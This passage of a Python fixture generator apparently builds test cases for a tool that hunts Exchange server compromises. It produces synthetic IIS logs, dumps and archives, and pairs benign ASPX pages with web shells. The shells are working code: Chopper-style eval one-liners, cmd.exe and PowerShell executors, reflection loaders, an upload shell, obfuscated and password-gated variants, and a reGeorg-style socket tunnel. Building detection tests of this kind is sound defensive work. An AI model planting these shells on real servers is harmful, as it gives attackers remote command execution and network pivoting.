    lines = ["#Software: Microsoft Internet Information Services 10.0",
             "#Version: 1.0",
             "#Date: " + date_line,
             "#Fields: " + IIS_FIELDS] + [iis_line(*e) for e in sorted(entries)]
    rel = "%s/inetpub/logs/LogFiles/W3SVC%d/u_ex%s.log" % (root, site, day6)
    return write(rel, join_lines(lines, bom=False))


def iis_benign(day, year):
    ua = UAS[year]
    d = day
    return [
        (d + " 00:03:11", "GET", "/owa/", "", "CORP\\alice", "10.10.1.21", ua["edge"], 200, 187),
        (d + " 00:03:12", "POST", "/owa/service.svc", "action=GetFolderMailboxId&EP=1&ID=-1&AC=1",
         "CORP\\alice", "10.10.1.21", ua["edge"], 200, 46),
        (d + " 01:20:40", "POST", "/mapi/emsmdb/", "MailboxId=%s@corp.example.com"
         % guid("mailbox:bob"), "CORP\\bob", "10.10.1.34", ua["outlook"], 200, 31),
        (d + " 01:58:02", "GET", "/owa/auth/logon.aspx",
         "url=https%3a%2f%2fmail.corp.example.com%2fowa%2f&reason=0", "", "192.168.50.12",
         ua["firefox"], 200, 15),
        (d + " 01:58:09", "POST", "/owa/auth.owa", "", "", "192.168.50.12", ua["firefox"], 302, 92),
        (d + " 03:44:51", "POST", "/EWS/Exchange.asmx", "", "CORP\\carol", "10.10.2.17",
         ua["outlook"], 200, 64),
        (d + " 07:10:26", "GET", "/ecp/", "", "CORP\\exadmin", "10.10.0.5", ua["edge"], 200, 230),
        (d + " 09:31:02", "POST", "/Autodiscover/Autodiscover.xml", "", "CORP\\dave",
         "192.168.50.12", ua["outlook"], 200, 21),
    ]


def req(ts, method, stem, query, user, ip, ua, status, taken, port=443, referer="-"):
    """One IIS entry for iis_file (ts = 'YYYY-MM-DD HH:MM:SS'), with the sc-substatus and
    sc-win32-status IIS writes for the status (404: 0 2, the file was not found)."""
    sub, win32 = (0, 2) if status == 404 else (0, 0)
    return (ts, method, stem, query, user, ip, ua, status, taken, sub, win32, port, referer)


def iis_write(root, entries, site=1):
    """One day's W3C log; the file's day and its #Date line come from the earliest entry."""
    first = min(entries)[0]
    return iis_file(root, first[2:4] + first[5:7] + first[8:10], entries, first, site=site)


def iis_backend_benign(day, year):
    """Exchange Back End (W3SVC2, port 444) rows: the front end proxying the requests of
    iis_benign, so the client address is the server itself."""
    ua = UAS[year]
    d = day
    return [
        req(d + " 00:03:12", "POST", "/owa/service.svc", "action=GetFolderMailboxId&EP=1&ID=-1&AC=1",
            "CORP\\alice", SERVER_IP, ua["edge"], 200, 31, port=444),
        req(d + " 01:20:40", "POST", "/mapi/emsmdb/", "MailboxId=%s@corp.example.com"
            % guid("mailbox:bob"), "CORP\\bob", SERVER_IP, ua["outlook"], 200, 22, port=444),
        req(d + " 03:44:51", "POST", "/EWS/Exchange.asmx", "", "CORP\\carol", SERVER_IP,
            ua["outlook"], 200, 48, port=444),
    ]


# --------------------------------------------------------------------------------------
# Binary artefacts: minidump, zip, 7z
# --------------------------------------------------------------------------------------


def minidump(module_names, when=(2021, 3, 4, 3, 22, 10), pad=4096):
    """A minimal little-endian minidump: header, one ModuleListStream, module names."""
    ts = calendar.timegm(when + (0, 0, 0))
    n = len(module_names)
    hdr_size, dir_size, mod_size = 32, 12, 108
    list_rva = hdr_size + dir_size
    list_size = 4 + n * mod_size
    names_rva = list_rva + list_size
    strings, rvas, off = b"", [], names_rva
    for name in module_names:
        u = name.encode("utf-16-le")
        s = struct.pack("<I", len(u)) + u + b"\x00\x00"
        rvas.append(off)
        off += len(s)
        strings += s
    header = struct.pack("<4sIIIIIQ", b"MDMP", 0xA793, 1, hdr_size, 0, ts, 2)
    directory = struct.pack("<III", 4, list_size, list_rva)
    mods = struct.pack("<I", n)
    bases = [0x7FF6A1B20000, 0x7FFC8E4D0000, 0x7FFC8C110000]
    sizes = [0x14000, 0x1F8000, 0xC9000]
    for i, rva in enumerate(rvas):
        mods += struct.pack("<QIIII", bases[i % 3], sizes[i % 3], 0x1E4A2 + i * 0x3311,
                            0x5F8E1C20 + i * 0x10001, rva) + b"\x00" * 84
    data = header + directory + mods + strings
    assert len(header) == 32 and len(mods) == list_size
    return data + b"\x00" * pad


LSASS_MODULES = ["C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\System32\\ntdll.dll"]
SVCHOST_MODULES = ["C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\ntdll.dll"]


def make_zip(entries, when):
    """entries: [(name, bytes)]; stored (no compression) so bytes never depend on zlib."""
    import io
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in entries:
            zi = zipfile.ZipInfo(name, date_time=when)
            zi.create_system = 0
            zi.external_attr = 0x20
            zi.compress_type = zipfile.ZIP_STORED
            z.writestr(zi, data)
    return buf.getvalue()


def make_7z_like():
    """7z signature header with correct CRCs pointing at a small fake next header."""
    packed = hashlib.sha256(b"exhunt-7z-packed").digest() * 3       # 96 bytes "packed" data
    next_hdr = bytes([0x17, 0x06, 0x80, 0x60, 0x01, 0x09, 0x60, 0x00, 0x07, 0x0B, 0x01, 0x00,
                      0x01, 0x21, 0x21, 0x01, 0x00, 0x0C, 0x81, 0x00, 0x00, 0x00])
    nh_crc = zlib.crc32(next_hdr) & 0xFFFFFFFF
    start = struct.pack("<QQI", len(packed), len(next_hdr), nh_crc)
    st_crc = zlib.crc32(start) & 0xFFFFFFFF
    return b"7z\xbc\xaf\x27\x1c" + b"\x00\x04" + struct.pack("<I", st_crc) + start + packed + next_hdr


def fake_jpeg(key):
    body = hashlib.sha256(key.encode()).digest() * 4
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + body
            + b"\xff\xd9")


def discover_aspx(external_url="http://f/" + SHELL_SCRIPT):
    """The OAB-settings dump the ResetOABVirtualDirectory trick leaves behind (synthetic).

    external_url is the value of the one ExternalUrl line; an ordinary URL gives the dump an
    administrator might save on purpose."""
    props = [
        ("RunspaceId", "d0c3b5a1-6e2f-4c8a-9f17-3b2a1c0e5d94"),
        ("Name", "OAB (Default Web Site)"),
        ("OfflineAddressBooks", "{\\Default Offline Address Book}"),
        ("RequireSSL", "False"),
        ("BasicAuthentication", "False"),
        ("WindowsAuthentication", "True"),
        ("OAuthAuthentication", "True"),
        ("PollInterval", "480"),
        ("MetabasePath", "IIS://%s/W3SVC/1/ROOT/OAB" % FQDN),
        ("Path", OAB_INSTALL + "FrontEnd\\HttpProxy\\OAB"),
        ("ExtendedProtectionTokenChecking", "None"),
        ("ExtendedProtectionFlags", ""),
        ("ExtendedProtectionSPNList", "{}"),
        ("AdminDisplayVersion", "Version 15.1 (Build 2106.2)"),
        ("Server", SERVER),
        ("InternalUrl", "https://%s/OAB" % FQDN.lower()),
        ("InternalAuthenticationMethods", "{WindowsIntegrated}"),
        ("ExternalUrl", external_url),
        ("ExternalAuthenticationMethods", "{WindowsIntegrated}"),
        ("AdminDisplayName", ""),
        ("ExchangeVersion", "0.10 (14.0.100.0)"),
        ("DistinguishedName", "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH01,"
                              "CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),"
                              "CN=Administrative Groups,CN=CORP,CN=Microsoft Exchange,"
                              "CN=Services,CN=Configuration,DC=corp,DC=example,DC=com"),
        ("Identity", "EXCH01\\OAB (Default Web Site)"),
        ("Guid", OAB_VDIR_GUID),
        ("ObjectCategory", "corp.example.com/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"),
        ("ObjectClass", "{top, msExchVirtualDirectory, msExchOABVirtualDirectory}"),
        ("WhenChanged", "3/3/2021 2:15:02 AM"),
        ("WhenCreated", "6/14/2020 9:41:27 AM"),
        ("WhenChangedUTC", "3/3/2021 2:15:02 AM"),
        ("WhenCreatedUTC", "6/14/2020 9:41:27 AM"),
        ("OrganizationId", ""),
        ("Id", "EXCH01\\OAB (Default Web Site)"),
        ("OriginatingServer", "DC01.corp.example.com"),
        ("IsValid", "True"),
        ("ObjectState", "Unchanged"),
    ]
    lines = [""] + [("%-40s: %s" % (k, v)).rstrip() for k, v in props] + ["", ""]
    text = CRLF.join(lines)
    text.encode("ascii")
    return text


# --------------------------------------------------------------------------------------
# Web pages (shells and ordinary pages) and binary drops
# --------------------------------------------------------------------------------------
# Every page below was written for these fixtures from the shapes described in the
# project notes (iocs-and-webshells.md sections 0, 2 and 4); none is copied from a
# public sample. Pages are CRLF text like files saved on Windows, unless a case says
# otherwise.

FRONTEND = V15 + "/FrontEnd/HttpProxy"
OWA_AUTH = FRONTEND + "/owa/auth"
ECP_AUTH = FRONTEND + "/ecp/auth"
WWWROOT = "inetpub/wwwroot"
ASPNET_CLIENT = WWWROOT + "/aspnet_client"
TEMP_ASPNET = "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files"


def page(text):
    """Page source written with LF in this file -> CRLF bytes, as saved on Windows."""
    assert "\r" not in text
    return text.replace("\n", CRLF).encode("utf-8")


def chopper_script(param, host=None):
    """The JScript Page_Load one-liner in a server-side script block (notes section 4.2)."""
    s = ('<script language="JScript" runat="server">'
         'function Page_Load(){eval(Request["%s"],"unsafe");}</script>' % param)
    return s if host is None else "http://%s/%s" % (host, s)


# --- tiny one-liners -------------------------------------------------------------------

JSCRIPT_ITEM_SHELL = '<%@ Page Language="Jscript"%><%eval(Request.Item["zx"],"unsafe");%>'
VBSCRIPT_EXEC_SHELL = '<% Execute Request("c") %>'

# --- C# process execution ----------------------------------------------------------------

PROCESS_FORM_SHELL = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (Request.HttpMethod != "POST") return;
    ProcessStartInfo psi = new ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + Request.Form["q"];
    psi.UseShellExecute = false;
    psi.RedirectStandardOutput = true;
    psi.CreateNoWindow = true;
    using (Process p = Process.Start(psi))
    {
        Out.InnerText = p.StandardOutput.ReadToEnd();
    }
}
</script>
<html><body>
<form method="post" runat="server"><input name="q" size="80" /> <input type="submit" value="Run" /></form>
<pre id="Out" runat="server"></pre>
</body></html>
"""

# The demo's second planted shell (examples/compromised, owa\\auth\\OutlookJP2.aspx):
# bounces visitors without the parameter to the logon page, runs PowerShell otherwise.
OUTLOOKJP2_SHELL = """<%@ Page Language="C#" Debug="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string c = Request.Params["jp"];
    if (String.IsNullOrEmpty(c))
    {
        Response.Redirect("/owa/auth/logon.aspx?url=%2fowa%2f&reason=0");
        return;
    }
    Process p = new Process();
    p.StartInfo.FileName = "powershell.exe";
    p.StartInfo.Arguments = "-NoProfile -NonInteractive -Command " + c;
    p.StartInfo.UseShellExecute = false;
    p.StartInfo.RedirectStandardOutput = true;
    p.StartInfo.RedirectStandardError = true;
    p.StartInfo.CreateNoWindow = true;
    p.Start();
    string output = p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd();
    p.WaitForExit();
    Response.ContentType = "text/plain";
    Response.Write(output);
}
</script>
"""

PROCESS_NEAR_PAGE = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Restart_Click(object sender, EventArgs e)
{
    if (!User.IsInRole(@"CORP\\Web Admins"))
    {
        Msg.Text = "Only members of Web Admins may restart IIS.";
        return;
    }
    Process p = Process.Start("iisreset.exe");
    p.WaitForExit(120000);
    Msg.Text = "iisreset finished with exit code " + p.ExitCode + ".";
}
</script>
<html><head><title>Restart IIS</title></head><body>
<form runat="server">
<p>Restarts all IIS services on this server. Users are disconnected for about a minute.</p>
<asp:Button ID="Restart" runat="server" Text="Restart IIS" OnClick="Restart_Click" />
<p><asp:Label ID="Msg" runat="server" /></p>
</form>
</body></html>
"""

# --- reflection -------------------------------------------------------------------------

ASSEMBLY_LOAD_SHELL = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (Request.Form["d"] == null)
    {
        Response.StatusCode = 404;
        return;
    }
    Assembly a = Assembly.Load(Convert.FromBase64String(Request.Form["d"]));
    a.GetType("Q").GetMethod("Run").Invoke(null, new object[] { Context });
}
</script>
"""

ASSEMBLY_LOAD_NEAR_PAGE = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    Assembly ext = Assembly.Load("System.Web.Extensions, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35");
    Ver.Text = ext.GetName().Version.ToString();
}
</script>
<html><head><title>Components</title></head><body>
<p>System.Web.Extensions version: <asp:Label ID="Ver" runat="server" /></p>
</body></html>
"""

# --- uploads ----------------------------------------------------------------------------

UPLOAD_SHELL = """<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    if (Request.Files.Count > 0)
    {
        Request.Files[0].SaveAs(Server.MapPath(Request["p"]));
        Response.Write("ok");
    }
}
</script>
"""

UPLOAD_NEAR_PAGE = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
static readonly string[] Allowed = { ".pdf", ".docx", ".xlsx", ".png", ".jpg" };

protected void Send_Click(object sender, EventArgs e)
{
    if (Request.Files.Count == 0 || Request.Files[0].ContentLength == 0)
    {
        Msg.Text = "Choose a file first.";
        return;
    }
    HttpPostedFile f = Request.Files[0];
    if (f.ContentLength > 10 * 1024 * 1024)
    {
        Msg.Text = "The file is larger than 10 MB.";
        return;
    }
    string name = Path.GetFileName(f.FileName);
    string ext = Path.GetExtension(name).ToLowerInvariant();
    if (Array.IndexOf(Allowed, ext) < 0)
    {
        Msg.Text = "Only PDF, Word, Excel, PNG and JPEG files are accepted.";
        return;
    }
    string folder = Server.MapPath("~/App_Data/uploads");
    f.SaveAs(Path.Combine(folder, Guid.NewGuid().ToString("N") + ext));
    Msg.Text = "Received " + Server.HtmlEncode(name) + ". HR will be in touch.";
}
</script>
<html><head><title>Send a document to HR</title></head><body>
<form runat="server" enctype="multipart/form-data">
<input type="file" name="doc" />
<asp:Button ID="Send" runat="server" Text="Send" OnClick="Send_Click" />
<p><asp:Label ID="Msg" runat="server" /></p>
</form>
</body></html>
"""

# --- eval look-alikes -------------------------------------------------------------------

EVAL_NEAR_PAGE = """<%@ Page Language="C#" AutoEventWireup="true" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (!IsPostBack)
    {
        People.DataSource = new[] { new { Name = "Alice Example" }, new { Name = "Bob Example" } };
        People.DataBind();
    }
}
</script>
<html><head><title>People</title></head><body>
<ul>
<asp:Repeater ID="People" runat="server">
<ItemTemplate><li><%# Eval("Name") %></li></ItemTemplate>
</asp:Repeater>
</ul>
<p>Two plus three is <span id="sum"></span>.</p>
<script>var x = "2+3"; document.getElementById("sum").textContent = eval(x);</script>
</body></html>
"""

# A string table with hex-escaped entries and an index function, in the style of the
# common JavaScript obfuscators; the table hides the parameter name and "unsafe".
OBFUSCATED_CODE = """var _0x5c1e=['\\x7a\\x71\\x37','\\x75\\x6e\\x73\\x61\\x66\\x65','\\x74\\x65\\x78\\x74\\x2f\\x68\\x74\\x6d\\x6c'];
var _0x3a0d=function(_0x11f2){_0x11f2=_0x11f2-0x0;var _0x4b7c=_0x5c1e[_0x11f2];return _0x4b7c;};
function Page_Load(){Response.ContentType=_0x3a0d('0x2');eval(Request[_0x3a0d('0x0')],_0x3a0d('0x1'));}
"""

OBFUSCATED_SHELL = ('<%@ Page Language="JScript" %>\n<script runat="server">\n' + OBFUSCATED_CODE +
                    "</script>\n")

OBFUSCATED_NEAR_PAGE = ("""<%@ Page Language="C#" %>
<html><head><title>Service status</title>
<script type="text/javascript">
""" + OBFUSCATED_CODE + """</script>
</head><body>
<h1>Service status</h1>
<p>All services are running.</p>
</body></html>
""")

# --- a password gate in front of eval ---------------------------------------------------

GATE_MD5 = hashlib.md5(b"exhunt fixture gate").hexdigest().upper()

GATED_SHELL = """<%@ Page Language="JScript" %>
<%@ Import Namespace="System.Web.Security" %>
<script runat="server">
function Page_Load() {
    if (FormsAuthentication.HashPasswordForStoringInConfigFile(Request["pw"], "MD5") == "%s") {
        eval(Request["c"], "unsafe");
    } else {
        Response.StatusCode = 404;
        Response.End();
    }
}
</script>
""".replace("%s", GATE_MD5)

# --- TCP tunnel and its near miss -------------------------------------------------------

# A socket tunnel of the reGeorg kind, written for these fixtures: the client names the
# target in request headers, the page keeps the socket in the session and relays bytes.
TUNNEL_SHELL = """<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string op = Request.Headers["X-OP"];
    if (op == "open")
    {
        string host = Request.Headers["X-HOST"];
        int port = int.Parse(Request.Headers["X-PORT"]);
        Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        s.Connect(new IPEndPoint(Dns.GetHostAddresses(host)[0], port));
        s.Blocking = false;
        Session["sock"] = s;
        Response.AddHeader("X-RESULT", "0");
    }
    else if (op == "push")
    {
        Socket s = (Socket)Session["sock"];
        s.Send(Request.BinaryRead(Request.ContentLength));
        Response.AddHeader("X-RESULT", "0");
    }
    else if (op == "pull")
    {
        Socket s = (Socket)Session["sock"];
        byte[] buf = new byte[16384];
        int n = 0;
        try { n = s.Receive(buf); } catch (SocketException) { }
        Response.AddHeader("X-RESULT", "0");
        Response.OutputStream.Write(buf, 0, n);
    }
    else if (op == "close")
    {
        Socket s = (Socket)Session["sock"];
        if (s != null) s.Close();
        Session.Remove("sock");
        Response.AddHeader("X-RESULT", "0");
    }
    else
    {
        Response.StatusCode = 404;
    }
}
</script>
"""

SMTP_CHECK_PAGE = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Configuration" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string host = ConfigurationManager.AppSettings["SmtpHost"];
    using (TcpClient client = new TcpClient())
    {
        client.Connect(host, 25);
        using (StreamReader r = new StreamReader(client.GetStream()))
        {
            Banner.Text = Server.HtmlEncode(r.ReadLine());
        }
    }
}
</script>
<html><head><title>SMTP check</title></head><body>
<h1>SMTP relay check</h1>
<p>Banner: <asp:Label ID="Banner" runat="server" /></p>
</body></html>
"""

SMTP_CHECK_CONFIG = """<?xml version="1.0" encoding="utf-8"?>
<configuration>
  <appSettings>
    <add key="SmtpHost" value="EXCH01.corp.example.com" />
  </appSettings>
  <system.web>
    <compilation targetFramework="4.8" />
    <authentication mode="Windows" />
    <authorization>
      <allow roles="CORP\\Web Admins" />
      <deny users="*" />
    </authorization>
  </system.web>
</configuration>
"""

# --- harmless pages for the location rules ----------------------------------------------

HARMLESS_REPORT_HTML = """<html>
<head><title>Mail flow report</title></head>
<body>
<h1>Monthly mail-flow report</h1>
<p>The report for February is attached to the IT newsletter.</p>
</body>
</html>
"""

ASPNET_CLIENT_README = """This folder holds client-side script files installed by ASP.NET.
Do not delete it: the web applications on this server expect it.
"""

DEFAULT_HTM = """<!DOCTYPE html>
<html>
<head><meta charset="utf-8"><title>EXCH01</title></head>
<body>
<p>This server hosts Outlook on the web. Go to <a href="/owa/">/owa/</a> to sign in.</p>
</body>
</html>
"""

TIMEOUT_LOGOFF_PAGE = """<%@ Page Language="C#" AutoEventWireup="true" %>
<html>
<head><title>Signed out</title></head>
<body>
<p>Your session timed out and you have been signed out. Close all browser windows to finish.</p>
</body>
</html>
"""

EXTRA_ECP_PAGE = """<html>
<head><title>Maintenance</title></head>
<body>
<p>The Exchange admin center is being updated. Please try again after 18:00.</p>
</body>
</html>
"""

HARMLESS_OK_PAGE = """<html>
<head><title>OK</title></head>
<body><p>OK</p></body>
</html>
"""

HELP_PAGE = """<%@ Page Language="C#" %>
<html>
<head><title>Help</title></head>
<body>
<h1>Intranet help</h1>
<ul>
<li>Password reset: call the service desk on extension 4400.</li>
<li>Room booking: use the Rooms page.</li>
</ul>
</body>
</html>
"""

DROPPER_PAGE = """<%@ Page Language="C#" %>
<html><head><title>Custom</title></head><body><p>Custom pages for the finance team.</p></body></html>
"""

# --- examples/clean: an ordinary intranet application -----------------------------------

INTRANET_WEB_CONFIG = """<?xml version="1.0" encoding="utf-8"?>
<configuration>
  <appSettings>
    <add key="UploadFolder" value="~/App_Data/uploads" />
  </appSettings>
  <system.web>
    <compilation targetFramework="4.8" />
    <httpRuntime targetFramework="4.8" maxRequestLength="10240" />
    <authentication mode="Windows" />
    <authorization>
      <deny users="?" />
    </authorization>
  </system.web>
</configuration>
"""

INTRANET_DEFAULT_ASPX = """<%@ Page Language="C#" AutoEventWireup="true" CodeFile="Default.aspx.cs" Inherits="Intranet.DefaultPage" %>
<!DOCTYPE html>
<html>
<head runat="server"><title>Intranet</title></head>
<body>
<form id="main" runat="server">
<h1>Welcome, <asp:Label ID="UserName" runat="server" /></h1>
<asp:Panel ID="News" runat="server"><p>The canteen is closed on Friday.</p></asp:Panel>
<asp:Panel ID="Links" runat="server" Visible="false">
<ul><li><a href="Upload.aspx">Send a document</a></li><li><a href="Rooms.ashx">Rooms (JSON)</a></li></ul>
</asp:Panel>
</form>
</body>
</html>
"""

INTRANET_DEFAULT_CS = """using System;
using System.Web.UI;

namespace Intranet
{
    public partial class DefaultPage : Page
    {
        protected void Page_Load(object sender, EventArgs e)
        {
            UserName.Text = Server.HtmlEncode(User.Identity.Name);
            string tab = Request.QueryString["tab"];
            bool links = string.Equals(tab, "links", StringComparison.OrdinalIgnoreCase);
            News.Visible = !links;
            Links.Visible = links;
        }
    }
}
"""

INTRANET_UPLOAD_ASPX = """<%@ Page Language="C#" AutoEventWireup="true" CodeFile="Upload.aspx.cs" Inherits="Intranet.UploadPage" %>
<!DOCTYPE html>
<html>
<head runat="server"><title>Send a document</title></head>
<body>
<form id="up" runat="server" enctype="multipart/form-data">
<p>PDF, Word or Excel, up to 10 MB.</p>
<asp:FileUpload ID="Doc" runat="server" />
<asp:Button ID="Send" runat="server" Text="Send" OnClick="Send_Click" />
<p><asp:Label ID="Msg" runat="server" /></p>
</form>
</body>
</html>
"""

INTRANET_UPLOAD_CS = """using System;
using System.Configuration;
using System.IO;
using System.Web.UI;

namespace Intranet
{
    public partial class UploadPage : Page
    {
        static readonly string[] Allowed = { ".pdf", ".docx", ".xlsx" };
        const int MaxBytes = 10 * 1024 * 1024;

        protected void Send_Click(object sender, EventArgs e)
        {
            if (!Doc.HasFile)
            {
                Msg.Text = "Choose a file first.";
                return;
            }
            if (Doc.PostedFile.ContentLength > MaxBytes)
            {
                Msg.Text = "The file is larger than 10 MB.";
                return;
            }
            string original = Path.GetFileName(Doc.FileName);
            string ext = Path.GetExtension(original).ToLowerInvariant();
            if (Array.IndexOf(Allowed, ext) < 0)
            {
                Msg.Text = "Only PDF, Word and Excel files are accepted.";
                return;
            }
            string folder = Server.MapPath(ConfigurationManager.AppSettings["UploadFolder"]);
            string stored = Guid.NewGuid().ToString("N") + ext;
            Doc.SaveAs(Path.Combine(folder, stored));
            Msg.Text = "Received " + Server.HtmlEncode(original) + ".";
        }
    }
}
"""

INTRANET_ROOMS_ASHX = """<%@ WebHandler Language="C#" Class="Intranet.Rooms" %>
using System;
using System.Text;
using System.Web;

namespace Intranet
{
    public class Rooms : IHttpHandler
    {
        static readonly string[] Names = { "Harbour", "Lighthouse", "Dune", "Tide" };
        static readonly int[] Floors = { 1, 1, 2, 3 };

        public void ProcessRequest(HttpContext context)
        {
            int floor;
            bool filter = int.TryParse(context.Request.QueryString["floor"], out floor);
            StringBuilder json = new StringBuilder("[");
            for (int i = 0; i < Names.Length; i++)
            {
                if (filter && Floors[i] != floor) continue;
                if (json.Length > 1) json.Append(',');
                json.Append("{\\"name\\":\\"").Append(Names[i]).Append("\\",\\"floor\\":").Append(Floors[i]).Append('}');
            }
            json.Append(']');
            context.Response.ContentType = "application/json";
            context.Response.Write(json.ToString());
        }

        public bool IsReusable { get { return true; } }
    }
}
"""

# --- IIS configuration ------------------------------------------------------------------


def application_host_config(extra_vdirs):
    """A trimmed applicationHost.config: Default Web Site (with the Exchange front-end
    applications) and Exchange Back End. extra_vdirs: [(path, physicalPath)] added to the
    root application of Default Web Site."""
    vd = "".join('                    <virtualDirectory path="%s" physicalPath="%s" />\n' % v
                 for v in extra_vdirs)
    fe = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy"
    be = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess"
    return """<?xml version="1.0" encoding="UTF-8"?>
<configuration>
    <configSections>
        <sectionGroup name="system.applicationHost">
            <section name="applicationPools" allowDefinition="AppHostOnly" overrideModeDefault="Deny" />
            <section name="sites" allowDefinition="AppHostOnly" overrideModeDefault="Deny" />
        </sectionGroup>
        <sectionGroup name="system.webServer">
            <section name="defaultDocument" overrideModeDefault="Allow" />
            <section name="directoryBrowse" overrideModeDefault="Allow" />
        </sectionGroup>
    </configSections>
    <system.applicationHost>
        <applicationPools>
            <add name="DefaultAppPool" />
            <add name="MSExchangeOWAAppPool" managedRuntimeVersion="v4.0" />
            <add name="MSExchangeECPAppPool" managedRuntimeVersion="v4.0" />
        </applicationPools>
        <sites>
            <site name="Default Web Site" id="1" serverAutoStart="true">
                <application path="/">
                    <virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" />
""" + vd + """                </application>
                <application path="/owa" applicationPool="MSExchangeOWAAppPool">
                    <virtualDirectory path="/" physicalPath="{FE}\\owa" />
                </application>
                <application path="/ecp" applicationPool="MSExchangeECPAppPool">
                    <virtualDirectory path="/" physicalPath="{FE}\\ecp" />
                </application>
                <bindings>
                    <binding protocol="https" bindingInformation="*:443:" />
                    <binding protocol="http" bindingInformation="*:80:" />
                </bindings>
            </site>
            <site name="Exchange Back End" id="2" serverAutoStart="true">
                <application path="/">
                    <virtualDirectory path="/" physicalPath="C:\\inetpub\\wwwroot" />
                </application>
                <application path="/owa" applicationPool="MSExchangeOWAAppPool">
                    <virtualDirectory path="/" physicalPath="{BE}\\owa" />
                </application>
                <bindings>
                    <binding protocol="https" bindingInformation="*:444:" />
                    <binding protocol="http" bindingInformation="*:81:" />
                </bindings>
            </site>
            <siteDefaults>
                <logFile logFormat="W3C" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" />
            </siteDefaults>
        </sites>
    </system.applicationHost>
    <system.webServer>
        <defaultDocument enabled="true">
            <files>
                <add value="default.htm" />
                <add value="default.aspx" />
            </files>
        </defaultDocument>
        <directoryBrowse enabled="false" />
    </system.webServer>
</configuration>
""".replace("{FE}", fe).replace("{BE}", be)


# --- binary containers ------------------------------------------------------------------


def byte_stream(key, n, avoid=b"<%"):
    """n deterministic pseudo-random bytes with the bytes in `avoid` left out, so that
    filler can never form a script tag by chance."""
    out = bytearray()
    block = hashlib.sha256(key.encode()).digest()
    while len(out) < n:
        block = hashlib.sha256(block).digest()
        out += bytes(b for b in block if b not in avoid)
    return bytes(out[:n])


def pst_like(key, plain_parts, size):
    """A file shaped like a Unicode PST: the '!BDN' header (magic, partial CRC, 'SM',
    version 23, client version 19, platform bytes, encryption = permute), then
    pseudo-random 'encoded' blocks. plain_parts: [(offset, bytes)] placed verbatim,
    the way a pre-encoded attachment reappears as plaintext."""
    body = bytearray(byte_stream(key, size))
    hdr = bytearray(byte_stream(key + ":hdr", 564))
    hdr[0:4] = b"!BDN"
    hdr[8:10] = b"SM"
    hdr[10:16] = struct.pack("<HHBB", 23, 19, 1, 1)
    hdr[16:24] = b"\x00" * 8
    hdr[0x201] = 1                  # bCryptMethod: NDB_CRYPT_PERMUTE
    hdr[4:8] = struct.pack("<I", zlib.crc32(bytes(hdr[8:479])) & 0xFFFFFFFF)
    body[0:564] = hdr
    for off, data in plain_parts:
        assert off >= 564 and off + len(data) <= size
        body[off:off + len(data)] = data
    return bytes(body)


def der_len(n):
    if n < 0x80:
        return bytes([n])
    if n < 0x100:
        return b"\x81" + bytes([n])
    return b"\x82" + struct.pack(">H", n)


def der(tag, *parts):
    body = b"".join(parts)
    return bytes([tag]) + der_len(len(body)) + body


def der_oid(dotted):
    nums = [int(x) for x in dotted.split(".")]
    out = bytes([40 * nums[0] + nums[1]])
    for v in nums[2:]:
        enc = [v & 0x7F]
        v >>= 7
        while v:
            enc.append(0x80 | (v & 0x7F))
            v >>= 7
        out += bytes(reversed(enc))
    return der(0x06, out)


OID_CN, OID_O, OID_C = "2.5.4.3", "2.5.4.10", "2.5.4.6"
OID_RSA, OID_SHA256_RSA, OID_SAN = "1.2.840.113549.1.1.1", "1.2.840.113549.1.1.11", "2.5.29.17"


def der_name(rdns):
    """rdns: [(oid, tag, text)] -> Name."""
    return der(0x30, *[der(0x31, der(0x30, der_oid(o), der(tag, v.encode("utf-8"))))
                       for o, tag, v in rdns])


def der_rsa_spki(key):
    modulus = bytearray(byte_stream(key + ":n", 256, avoid=b""))
    modulus[0] |= 0x80
    modulus[-1] |= 0x01
    rsa = der(0x30, der(0x02, b"\x00" + bytes(modulus)), der(0x02, b"\x01\x00\x01"))
    return der(0x30, der(0x30, der_oid(OID_RSA), b"\x05\x00"), der(0x03, b"\x00" + rsa))


def der_sig(key):
    return (der(0x30, der_oid(OID_SHA256_RSA), b"\x05\x00"),
            der(0x03, b"\x00" + byte_stream(key + ":sig", 256, avoid=b"")))


def der_csr(subject_cn, key):
    """A PKCS#10 request whose subject CN is subject_cn (what New-ExchangeCertificate
